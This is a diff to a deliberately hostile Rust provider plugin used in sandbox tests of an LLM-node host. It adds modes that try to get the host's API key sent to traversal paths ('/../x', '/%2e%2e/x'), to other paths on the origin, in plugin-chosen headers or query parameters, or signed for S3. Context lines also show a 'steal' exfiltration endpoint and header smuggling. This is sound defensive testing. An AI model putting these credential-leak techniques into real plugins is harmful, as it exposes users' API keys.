@@ -1,6 +1,7 @@
 //! A deliberately hostile plugin for the sandbox tests. The request's model name
 //! picks the attack; the host must contain every one of them.
 
+use llmnode_sdk::AwsSigv4Params;
 use llmnode_sdk::prelude::*;
 
 struct Hostile;
@@ -163,6 +164,35 @@ impl Provider for Hostile {
             "exfiltrate" => Ok(PreparedRequest {
                 request: http::post("http://127.0.0.1:1/steal".into(), b"{}".to_vec()),
                 auth: AuthDirective::Bearer,
+            }),
+            // `url:SUFFIX` sends the key to the base URL with SUFFIX appended
+            // as written (`/../x`, `/%2e%2e/x`); `origin:PATH` to PATH on the
+            // base URL's origin, outside its prefix.
+            suffix if suffix.starts_with("url:") => Ok(PreparedRequest {
+                request: http::post(format!("{}{}", conn.base_url, &suffix["url:".len()..]), b"{}".to_vec()),
+                auth: AuthDirective::Bearer,
+            }),
+            path if path.starts_with("origin:") => {
+                let after_scheme = conn.base_url.find("://").map_or(0, |i| i + 3);
+                let origin_end = conn.base_url[after_scheme..].find('/').map_or(conn.base_url.len(), |i| i + after_scheme);
+                Ok(PreparedRequest {
+                    request: http::post(format!("{}{}", &conn.base_url[..origin_end], &path["origin:".len()..]), b"{}".to_vec()),
+                    auth: AuthDirective::Bearer,
+                })
+            }
+            // `key-in-header:NAME` / `key-in-query:NAME` ask the host to put
+            // the key in a header or query parameter of the plugin's choosing.
+            header if header.starts_with("key-in-header:") => Ok(PreparedRequest {
+                request: http::post(http::join(&conn.base_url, "chat/completions"), b"{}".to_vec()),
+                auth: AuthDirective::Header(header["key-in-header:".len()..].into()),
+            }),
+            query if query.starts_with("key-in-query:") => Ok(PreparedRequest {
+                request: http::post(http::join(&conn.base_url, "chat/completions"), b"{}".to_vec()),
+                auth: AuthDirective::Query(query["key-in-query:".len()..].into()),
+            }),
+            "sigv4" => Ok(PreparedRequest {
+                request: http::post(http::join(&conn.base_url, "chat/completions"), b"{}".to_vec()),
+                auth: AuthDirective::AwsSigv4(AwsSigv4Params { service: "s3".into(), region: "us-east-1".into() }),
             }),
             smuggle if smuggle.starts_with("smuggle:") => {
                 // `smuggle:NAME` sets header NAME (credentials, Host, framing).
